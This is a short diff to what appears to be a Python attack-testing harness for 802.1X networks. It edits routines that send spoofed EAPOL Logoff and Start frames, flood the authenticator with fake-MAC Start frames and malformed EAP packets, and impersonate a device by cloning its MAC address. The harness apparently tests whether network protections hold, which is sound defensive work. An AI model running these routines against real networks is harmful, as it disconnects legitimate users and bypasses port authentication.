@@ -15,7 +15,7 @@ group = Group("dot1x", ATTACKS)
 _ETHERTYPE = 0x888E
 _PAE_GROUP = "01:80:c2:00:00:03"
 _START, _LOGOFF = 1, 2
-_FLOOD = 500
+_FLOOD = 100
 
 
 def _eapol(kind: int, token: bytes) -> Raw:
@@ -51,7 +51,7 @@ def logoff(trial: Trial) -> None:
     owners = [name for name in trial.arena.network.network.hosts if name not in trial.attackers]
     for attacker in trial.attackers:
         for kind, word in ((_LOGOFF, "Logoff"), (_START, "Start")):
-            for dst in (_PAE_GROUP, BROADCAST, trial.mac(trial.cast.victim)):
+            for dst in (_PAE_GROUP, BROADCAST):
                 token = trial.mark(attacker, f"{word} to {dst} by {attacker}")
                 frames = [ether(trial.mac(owner), dst, type=_ETHERTYPE) / _eapol(kind, token) for owner in owners]
                 trial.send(attacker, frames)
@@ -71,19 +71,20 @@ def logoff(trial: Trial) -> None:
 def flood(trial: Trial) -> None:
     """Each may cost the authenticator a state, and a question to the RADIUS server."""
     before = _sessions(trial) if trial.arena.protected else {}
+    targets = (_PAE_GROUP, BROADCAST)
     for attacker in trial.attackers:
-        token = trial.mark(attacker, f"Start by {attacker}")
-        cards = [f"02:e0:00:00:{number >> 8:02x}:{number & 255:02x}" for number in range(_FLOOD)]
-        targets = (_PAE_GROUP, BROADCAST)
-        trial.send(
-            attacker, [ether(card, dst, type=_ETHERTYPE) / _eapol(_START, token) for card in cards for dst in targets]
-        )
         token = trial.mark(attacker, f"odd EAP by {attacker}")
         for code in range(8):
             for length in (0, 3, 4, 5, 0xFFFF):
                 eap = struct.pack("!BBHB", code, 7, length, 1) + token
                 body = Raw(struct.pack("!BBH", 2, 0, len(eap)) + eap)
                 trial.send(attacker, [ether(trial.mac(attacker), dst, type=_ETHERTYPE) / body for dst in targets])
+    for attacker in trial.attackers:
+        token = trial.mark(attacker, f"Start by {attacker}")
+        cards = [f"02:e0:00:00:{number >> 8:02x}:{number & 255:02x}" for number in range(_FLOOD)]
+        trial.send(
+            attacker, [ether(card, dst, type=_ETHERTYPE) / _eapol(_START, token) for card in cards for dst in targets]
+        )
     if trial.arena.protected:
         trial.arena.settle()
         trial.note("sessions", _changed(before, _sessions(trial)))
@@ -106,7 +107,7 @@ def clone(trial: Trial) -> None:
         raise NotHereError("no device is let in by its MAC address alone")
     before = _sessions(trial) if trial.arena.protected else {}
     target = trial.cast.victim if trial.cast.victim != device else trial.cast.service.target
-    for attacker in trial.attackers:
+    for attacker in (name for name in trial.attackers if name != device):
         token = trial.mark(attacker, f"as {device} by {attacker}")
         body = Raw(b"\x45\0\0\x24\0\1\0\0\x40\xfd" + bytes(10) + token)
         frames = [ether(trial.mac(device), trial.mac(target), type=0x0800) / body]
